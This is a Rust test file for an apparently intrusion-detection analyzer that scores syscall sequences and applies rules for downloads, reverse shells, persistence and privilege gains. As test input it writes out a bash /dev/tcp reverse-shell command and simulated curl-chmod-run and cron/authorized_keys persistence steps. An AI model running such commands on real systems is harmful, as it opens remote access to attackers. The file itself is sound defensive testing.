//! Sequences as an analyzer: a trained model, written rules, and what is promised.
#![allow(clippy::unwrap_used, reason = "a test that fails says where")]

use std::sync::Arc;

use amoskys_analysis::model::{ModelFile, Origin};
use amoskys_analysis::sequence::{
    Example, SequenceAnalyzer, SequenceAnalyzerParams, SequenceModel, SequenceParams, TraceAssembler,
    TraceParams, pattern_rules,
};
use amoskys_core::event::{
    ActivityAction, ActivityEvent, Ancestor, Credentials, Entity, Layer, ProcessAction, ProcessEvent,
    Punctuation, SyscallEvent, Verdict,
};
use amoskys_core::{
    Analyzer, Class, Epoch, Event, EventId, Observation, Payload, Recorded, Seq, StreamId, Timestamp,
};

/// Traces of made programs: each repeats routines of its own, in varying order.
fn normal(count: u32) -> Vec<(String, Vec<u32>)> {
    let mut state = 7_u32;
    let mut random = move |below: u32| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 8) % below
    };
    let trace = |n| {
        let program = n % 6;
        let mut calls = vec![11, 45, 33];
        for _ in 0..20 + random(20) {
            let routine = program * 4 + random(4);
            calls.extend((0..4 + routine % 3).map(|step| (routine * 7 + step * 5) % 60));
        }
        calls.push(252);
        (format!("program{program}"), calls)
    };
    (0..count).map(trace).collect()
}

fn model() -> SequenceModel {
    let traces = normal(600);
    let examples: Vec<Example<'_>> = traces
        .iter()
        .map(|(program, calls)| Example { program, calls })
        .collect();
    SequenceParams {
        false_alarms: 0.05,
        ..SequenceParams::default()
    }
    .fit(&examples)
    .unwrap()
}

/// What an intruder's process does: calls that no program makes.
fn odd() -> Vec<u32> {
    (0..300).map(|n| 100 + (n * n) % 37).collect()
}

struct Log(Vec<Recorded>);

impl Log {
    fn add(&mut self, seconds: f64, payload: Payload) {
        let n = self.0.len() as u64;
        let stream = StreamId {
            agent: "host".into(),
            epoch: Epoch::default(),
            class: Class::Bulk,
        };
        self.0.push(Recorded {
            timeline: 0,
            stream: Arc::new(stream),
            seq: Seq(n),
            event: Event {
                id: EventId {
                    origin: 3,
                    ordinal: n,
                },
                time: Timestamp::from_nanos(1_700_000_000_000_000_000 + (seconds * 1e9) as i64),
                device: "host".into(),
                payload,
                ..Event::default()
            },
        });
    }

    fn calls(&mut self, seconds: f64, pid: u32, command: &str, calls: &[u32]) {
        for (n, numbers) in (0_u64..).zip(calls.chunks(50)) {
            let event = SyscallEvent {
                pid,
                tid: pid,
                command: command.to_owned(),
                numbers: numbers.to_vec(),
                first: n * 50,
                ..SyscallEvent::default()
            };
            self.add(seconds, Payload::Syscall(Box::new(event)));
        }
    }

    fn process(&mut self, seconds: f64, action: ProcessAction, pid: u32, parent: u32, line: &[&str]) {
        let event = ProcessEvent {
            action,
            pid,
            parent_pid: parent,
            executable: line.first().copied().unwrap_or_default().to_owned(),
            arguments: line.iter().map(|word| (*word).to_owned()).collect(),
            ..ProcessEvent::default()
        };
        self.add(seconds, Payload::Process(Box::new(event)));
    }

    /// The machine's clock, stated.
    fn clock(&mut self, seconds: f64) {
        self.add(seconds, Payload::Punctuation(Punctuation::default()));
    }

    fn activity(&mut self, seconds: f64, pid: u32, parent: u32, change: impl FnOnce(&mut ActivityEvent)) {
        let ancestors = vec![Ancestor {
            pid: parent,
            ..Ancestor::default()
        }];
        let mut event = ActivityEvent {
            pid,
            ancestors,
            result: Some(0),
            ..ActivityEvent::default()
        };
        change(&mut event);
        self.add(seconds, Payload::Activity(Box::new(event)));
    }
}

fn feed(analyzer: &mut SequenceAnalyzer, log: &Log) -> Vec<Verdict> {
    let mut verdicts = Vec::new();
    for event in &log.0 {
        analyzer
            .observe(Observation::Event(event), &mut verdicts)
            .unwrap();
    }
    verdicts
}

fn analyzer(model: Option<SequenceModel>) -> SequenceAnalyzer {
    SequenceAnalyzer::new(model, SequenceAnalyzerParams::default()).unwrap()
}

fn techniques(log: &Log) -> Vec<String> {
    let verdicts = feed(&mut analyzer(None), log);
    assert!(
        verdicts
            .iter()
            .all(|verdict| verdict.layer == Layer::Rule && verdict.is_alert())
    );
    verdicts
        .iter()
        .map(|v| v.technique.as_ref().unwrap().as_str().to_owned())
        .collect()
}

#[test]
fn a_process_unlike_all_others_is_found_and_new_honest_ones_are_not() {
    let model = model();
    let mut log = Log(Vec::new());
    let mut honest = 0;
    for (n, (program, calls)) in (0_u32..).zip(normal(700).into_iter().skip(600)) {
        log.calls(f64::from(n), 100 + n, &program, &calls);
        log.process(f64::from(n) + 0.5, ProcessAction::Exit, 100 + n, 1, &[]);
        honest += 1;
    }
    let found = feed(&mut analyzer(Some(model.clone())), &log);
    assert!(found.len() <= honest / 8, "{} of {honest}", found.len());

    let mut log = Log(Vec::new());
    log.calls(0.0, 9, "program1", &odd());
    log.process(1.0, ProcessAction::Exit, 9, 1, &[]);
    log.clock(2.9);
    assert!(feed(&mut analyzer(Some(model.clone())), &log).is_empty());
    log.clock(3.0);
    let found = feed(&mut analyzer(Some(model.clone())), &log);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].layer, Layer::Behavioral);
    assert!(found[0].title.contains("program1") && !found[0].evidence.is_empty());
    let surprising = model.surprising("program1", &odd(), 5);
    assert_eq!(surprising.len(), 5);
    assert!(surprising[0].2 > 5.0);
}

#[test]
fn it_keeps_the_promises_of_an_analyzer() {
    let model = model();
    let mut log = Log(Vec::new());
    log.calls(0.0, 9, "program1", &odd());
    log.calls(0.5, 8, "program2", &normal(1)[0].1);
    log.activity(0.6, 9, 1, |a| {
        (a.action, a.path) = (ActivityAction::FileCreate, "/tmp/x".into())
    });
    log.activity(0.7, 9, 1, |a| {
        (a.action, a.path, a.number) = (ActivityAction::FileMode, "/tmp/x".into(), 0o755);
    });
    log.process(1.0, ProcessAction::Exit, 9, 1, &[]);
    log.process(1.5, ProcessAction::Exec, 12, 9, &["/tmp/x"]);
    log.calls(2.0, 8, "program2", &odd());
    log.process(3.0, ProcessAction::Exit, 8, 1, &[]);
    log.clock(5.0);
    assert_eq!(feed(&mut analyzer(Some(model.clone())), &log).len(), 3);
    amoskys_core::conformance::analyzer(|| analyzer(Some(model.clone())), &log.0);
}

#[test]
fn a_long_process_is_judged_in_stretches_and_lost_calls_cut_it() {
    let model = model();
    let params = SequenceAnalyzerParams {
        stretch: 100,
        ..SequenceAnalyzerParams::default()
    };
    let mut log = Log(Vec::new());
    log.calls(0.0, 9, "p", &odd());
    let mut stretches = SequenceAnalyzer::new(Some(model.clone()), params).unwrap();
    assert_eq!(feed(&mut stretches, &log).len(), 3);
    let mut log = Log(Vec::new());
    log.calls(0.0, 9, "p", &odd()[..100]);
    let gap = SyscallEvent {
        pid: 9,
        tid: 9,
        numbers: vec![1; 10],
        first: 5_000,
        ..SyscallEvent::default()
    };
    log.add(1.0, Payload::Syscall(Box::new(gap)));
    assert_eq!(feed(&mut analyzer(Some(model)), &log).len(), 1);
}

#[test]
fn calls_that_come_after_the_news_of_the_end_belong_to_the_trace() {
    let end = |log: &mut Log, at| log.process(at, ProcessAction::Exit, 9, 1, &[]);
    let mut traces = Vec::new();
    for order in 0..3 {
        let mut log = Log(Vec::new());
        log.process(0.0, ProcessAction::Exec, 9, 1, &["/bin/p"]);
        if order == 0 {
            end(&mut log, 0.1);
        }
        log.calls(0.1, 9, "p", &odd()[..150]);
        if order == 1 {
            end(&mut log, 0.1);
        }
        let rest = SyscallEvent {
            pid: 9,
            tid: 9,
            command: "p".to_owned(),
            numbers: odd()[150..].to_vec(),
            first: 150,
            ..SyscallEvent::default()
        };
        log.add(0.1, Payload::Syscall(Box::new(rest)));
        if order == 2 {
            end(&mut log, 0.1);
        }
        log.clock(1.0);
        log.clock(2.5);
        let mut assembler = TraceAssembler::new(2048, 16).unwrap();
        let whole: Vec<_> = log.0.iter().flat_map(|event| assembler.observe(event)).collect();
        assert_eq!(whole.len(), 1, "order {order}");
        traces.push(whole[0].calls.clone());
        // What comes later still is a trace of its own, and waits no longer than others.
        let mut late = Log(Vec::new());
        late.calls(2.6, 9, "p", &odd()[..50]);
        late.clock(4.0);
        assert!(late.0.iter().all(|event| assembler.observe(event).is_empty()));
        late.clock(4.6);
        let event = late.0.last().unwrap();
        assert_eq!(assembler.observe(event).len(), 1);
        assert!(assembler.finish().is_empty());
    }
    assert!(traces.iter().all(|calls| *calls == odd()));
}

#[test]
fn memory_for_processes_is_bounded() {
    let mut assembler = TraceAssembler::new(2048, 4).unwrap();
    let mut log = Log(Vec::new());
    for pid in 0..10 {
        log.calls(0.0, pid + 1, "p", &[1, 2, 3]);
        log.process(0.0, ProcessAction::Exit, pid + 1, 0, &[]);
    }
    let mut complete = 0;
    for event in &log.0 {
        complete += assembler.observe(event).len();
    }
    // Those that ended first wait no longer when there are too many.
    assert_eq!((complete, assembler.evicted()), (7, 0));
    assert_eq!(assembler.finish().len(), 3);
    assert!(TraceAssembler::new(15, 4).is_err() && TraceAssembler::new(16, 0).is_err());
}

#[test]
fn a_model_file_gives_back_the_model() {
    let model = model();
    let file = model.to_file("calls", "1", Origin::default()).unwrap();
    let bytes = file.to_bytes().unwrap();
    let back = SequenceModel::of_file(&ModelFile::from_bytes(&bytes).unwrap()).unwrap();
    assert_eq!(back, model);
    let calls = odd();
    let score = |model: &SequenceModel| model.traces().scorer().score(&calls).value.to_bits();
    assert_eq!(score(&back), score(&model));
    let mut without = ModelFile::new("calls", "1", file.schema.clone(), Origin::default());
    assert!(SequenceModel::of_file(&without).is_err());
    without.schema = amoskys_analysis::evidence_schema().as_ref().clone();
    assert!(SequenceModel::of_file(&without).is_err());
    let other = analyzer(None).model().digest;
    assert_ne!(analyzer(Some(model)).model().digest, other);
}

#[test]
fn download_chmod_run_is_found_across_processes_and_only_for_one_file() {
    let steps = |run: &str| {
        let mut log = Log(Vec::new());
        log.process(
            0.0,
            ProcessAction::Exec,
            20,
            10,
            &["/usr/bin/curl", "-o", "/tmp/a"],
        );
        log.activity(1.0, 20, 10, |a| {
            (a.action, a.path) = (ActivityAction::FileCreate, "/tmp/a".into())
        });
        log.activity(2.0, 21, 10, |a| {
            (a.action, a.path, a.number) = (ActivityAction::FileMode, "/tmp/a".into(), 0o755);
        });
        log.process(3.0, ProcessAction::Exec, 22, 10, &[run]);
        log
    };
    assert_eq!(techniques(&steps("/tmp/a")), ["T1105"]);
    assert!(techniques(&steps("/tmp/b")).is_empty());
    assert!(techniques(&steps("/usr/bin/less")).is_empty());
}

#[test]
fn reverse_shells_are_found_and_shells_are_not() {
    let mut log = Log(Vec::new());
    log.process(
        0.0,
        ProcessAction::Exec,
        5,
        1,
        &["/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"],
    );
    assert_eq!(techniques(&log), ["T1059.004"]);

    let mut log = Log(Vec::new());
    log.process(0.0, ProcessAction::Exec, 5, 1, &["/dev/shm/x"]);
    log.activity(1.0, 5, 1, |a| {
        (a.action, a.remote_address, a.remote_port) =
            (ActivityAction::Connect, Some([198, 51, 100, 9].into()), 4444);
        a.result = Some(-115);
    });
    log.process(2.0, ProcessAction::Exec, 6, 5, &["/bin/sh", "-i"]);
    // By two rules: the program is from a temporary place, and the shell waits for commands.
    assert_eq!(techniques(&log), ["T1059.004", "T1059.004"]);

    let mut log = Log(Vec::new());
    log.process(0.0, ProcessAction::Exec, 5, 1, &["/bin/bash", "-c", "make all"]);
    log.activity(1.0, 5, 1, |a| {
        (a.action, a.remote_address) = (ActivityAction::Connect, Some([198, 51, 100, 9].into()));
    });
    log.process(2.0, ProcessAction::Exec, 6, 5, &["/bin/sh", "-c", "cc -c a.c"]);
    log.process(3.0, ProcessAction::Exec, 7, 5, &["/bin/sh", "configure"]);
    assert!(techniques(&log).is_empty());
}

#[test]
fn a_shell_that_waits_for_commands_after_a_call_out_is_found_however_it_came_about() {
    let out = |log: &mut Log, at: f64, pid, parent, command: &str| {
        log.activity(at, pid, parent, |a| {
            (a.action, a.command) = (ActivityAction::Connect, command.to_owned());
            (a.remote_address, a.remote_port) = (Some([198, 51, 100, 9].into()), 4444);
            a.local_address = Some([10, 0, 0, 5].into());
        });
    };
    // The program forks a shell, two generations on.
    let mut log = Log(Vec::new());
    out(&mut log, 0.0, 5, 1, "python3");
    log.process(0.5, ProcessAction::Exec, 6, 5, &["/bin/bash"]);
    let verdicts = feed(&mut analyzer(None), &log);
    assert_eq!(verdicts.len(), 1);
    let own = Entity::Pair([10, 0, 0, 5].into(), [198, 51, 100, 9].into());
    assert_eq!(verdicts[0].peers, [own]);
    assert_eq!(verdicts[0].title.rsplit(": ").next(), Some("bash (6)"));
    // It becomes one.
    let mut log = Log(Vec::new());
    out(&mut log, 0.0, 5, 1, "bash");
    log.process(0.5, ProcessAction::Exec, 5, 1, &["/bin/bash", "-i"]);
    assert_eq!(techniques(&log), ["T1059.004"]);
    // One beside the other, joined by pipes.
    let mut log = Log(Vec::new());
    log.process(0.0, ProcessAction::Exec, 6, 5, &["/bin/sh", "-i"]);
    out(&mut log, 0.5, 7, 5, "nc");
    assert_eq!(techniques(&log), ["T1059.004"]);
    // Somebody starts a shell and then fetches something, or fetches something and starts a shell.
    let mut log = Log(Vec::new());
    log.process(0.0, ProcessAction::Exec, 6, 5, &["/bin/bash"]);
    out(&mut log, 0.5, 7, 6, "curl");
    out(&mut log, 60.0, 8, 5, "curl");
    log.process(61.0, ProcessAction::Exec, 9, 5, &["/bin/bash"]);
    assert!(techniques(&log).is_empty());
    // A login, after the directory was asked.
    let mut log = Log(Vec::new());
    out(&mut log, 0.0, 5, 1, "sshd");
    let login = ProcessEvent {
        action: ProcessAction::Exec,
        pid: 6,
        parent_pid: 5,
        executable: "/bin/bash".into(),
        arguments: vec!["-bash".into()],
        ..ProcessEvent::default()
    };
    log.add(0.5, Payload::Process(Box::new(login)));
    assert!(techniques(&log).is_empty());
}

#[test]
fn hints_are_kept_for_those_who_ask() {
    let mut log = Log(Vec::new());
    log.activity(0.0, 5, 1, |a| {
        (a.action, a.path) = (ActivityAction::FileCreate, "/etc/cron.d/refresh".into());
    });
    log.activity(1.0, 5, 1, |a| {
        (a.action, a.path, a.flags) = (ActivityAction::FileOpen, "/root/.ssh/authorized_keys".into(), 1);
    });
    log.activity(2.0, 5, 1, |a| {
        (a.action, a.target_pid) = (ActivityAction::MemoryWrite, 9);
    });
    // Reading is nothing, and what failed did not happen.
    log.activity(3.0, 5, 1, |a| {
        (a.action, a.path) = (ActivityAction::FileOpen, "/etc/ld.so.preload".into());
    });
    log.activity(4.0, 5, 1, |a| {
        (a.action, a.path, a.result) = (ActivityAction::FileCreate, "/etc/cron.d/x".into(), Some(-13));
    });
    assert!(techniques(&log).is_empty());
    let params = SequenceAnalyzerParams {
        report_score: 0.0,
        ..SequenceAnalyzerParams::default()
    };
    let mut all = SequenceAnalyzer::new(None, params).unwrap();
    let found = feed(&mut all, &log);
    let names: Vec<String> = found
        .iter()
        .filter_map(|v| Some(v.technique.as_ref()?.to_string()))
        .collect();
    assert_eq!(names, ["T1053.003", "T1098.004", "T1055"]);
    assert!(found.iter().all(|verdict| verdict.score < 0.3));
}

#[test]
fn files_get_names_by_renaming_and_by_links() {
    let params = SequenceAnalyzerParams {
        report_score: 0.0,
        ..SequenceAnalyzerParams::default()
    };
    let found = |action, path: &str, other: &str| {
        let mut log = Log(Vec::new());
        log.activity(0.0, 5, 1, |a| {
            (a.action, a.path, a.other_path) = (action, path.into(), other.into());
        });
        let mut all = SequenceAnalyzer::new(None, params.clone()).unwrap();
        feed(&mut all, &log).len()
    };
    // Of a renaming the new name is the second path, of a link the first.
    assert_eq!(found(ActivityAction::FileRename, "/tmp/x", "/etc/cron.d/x"), 1);
    assert_eq!(found(ActivityAction::FileLink, "/etc/cron.d/x", "/tmp/x"), 1);
    assert_eq!(found(ActivityAction::FileLink, "/tmp/x", "/etc/cron.d/x"), 0);
}

#[test]
fn rights_of_root_are_gained_by_those_who_had_none() {
    let params = SequenceAnalyzerParams {
        report_score: 0.0,
        ..SequenceAnalyzerParams::default()
    };
    let found = |action, before: u32, after: u32, result| {
        let of = |uid| Credentials {
            uid: before,
            effective_uid: uid,
            saved_uid: uid,
            ..Credentials::default()
        };
        let mut log = Log(Vec::new());
        let event = ProcessEvent {
            action,
            pid: 5,
            executable: "/usr/bin/passwd".into(),
            previous: Some(of(before)),
            credentials: Some(of(after)),
            result,
            ..ProcessEvent::default()
        };
        log.add(0.0, Payload::Process(Box::new(event)));
        let mut analyzer = SequenceAnalyzer::new(None, params.clone()).unwrap();
        let verdicts = feed(&mut analyzer, &log);
        verdicts
            .iter()
            .map(|v| v.technique.as_ref().unwrap().to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(found(ProcessAction::Exec, 1000, 0, None), ["T1548.001"]);
    assert_eq!(found(ProcessAction::Credentials, 1000, 0, Some(0)), ["T1548"]);
    assert!(found(ProcessAction::Credentials, 1000, 0, Some(-1)).is_empty());
    assert!(found(ProcessAction::Exec, 0, 0, None).is_empty());
    assert!(found(ProcessAction::Exec, 1000, 33, None).is_empty());
}

#[test]
fn written_code_that_calls_out_and_opens_a_shell_is_found_in_time_only() {
    let steps = |late: f64| {
        let mut log = Log(Vec::new());
        log.activity(0.0, 5, 1, |a| a.action = ActivityAction::WritableCode);
        log.activity(1.0, 5, 1, |a| {
            (a.action, a.remote_address) = (ActivityAction::Connect, Some([198, 51, 100, 9].into()));
        });
        log.process(2.0 + late, ProcessAction::Exec, 6, 5, &["/bin/sh"]);
        log
    };
    assert!(techniques(&steps(0.0)).contains(&"T1055".to_owned()));
    assert!(techniques(&steps(100.0)).is_empty());
}

#[test]
fn rules_are_unique_and_readable() {
    let rules = pattern_rules();
    let text = serde_json::to_string(&rules).unwrap();
    assert_eq!(
        serde_json::from_str::<Vec<amoskys_analysis::sequence::PatternRule>>(&text).unwrap(),
        rules
    );
    for (at, rule) in rules.iter().enumerate() {
        assert!(rules[..at].iter().all(|other| other.name != rule.name));
    }
}

#[test]
fn memory_stays_bounded() {
    let params = SequenceAnalyzerParams {
        processes: 50,
        ..SequenceAnalyzerParams::default()
    };
    let mut analyzer = SequenceAnalyzer::new(Some(model()), params).unwrap();
    let mut log = Log(Vec::new());
    for pid in 0..2_000 {
        log.calls(f64::from(pid), pid, "p", &[1, 2, 3]);
        log.activity(f64::from(pid), pid, 1, |a| {
            a.action = ActivityAction::WritableCode
        });
    }
    feed(&mut analyzer, &log);
    assert!(analyzer.evicted() > 1_900);
    assert!(analyzer.snapshot().unwrap().len() < 50_000);
}

#[test]
fn traces_too_short_say_nothing_and_bad_settings_are_refused() {
    let model = TraceParams::default().fit(&[vec![1, 2, 3, 4]]).unwrap();
    assert_eq!(model.scorer().score(&[9, 9]).value, 0.0);
    assert_eq!(model.scorer().score(&[]).value, 0.0);
    assert!(TraceParams::default().fit(&[vec![1, 2]]).is_err());
    assert!(
        TraceParams {
            order: 9,
            ..TraceParams::default()
        }
        .fit(&[vec![1; 20]])
        .is_err()
    );
    assert!(
        TraceParams {
            evidence: f64::NAN,
            ..TraceParams::default()
        }
        .fit(&[vec![1; 20]])
        .is_err()
    );
    let params = SequenceAnalyzerParams {
        stretch: 1,
        ..SequenceAnalyzerParams::default()
    };
    assert!(SequenceAnalyzer::new(None, params).is_err());
    assert_eq!(
        model.unknown_runs(&[1, 2, 3, 7, 7, 7, 7]),
        [(vec![7, 7, 7], 2), (vec![2, 3, 7], 1), (vec![3, 7, 7], 1),]
    );
}
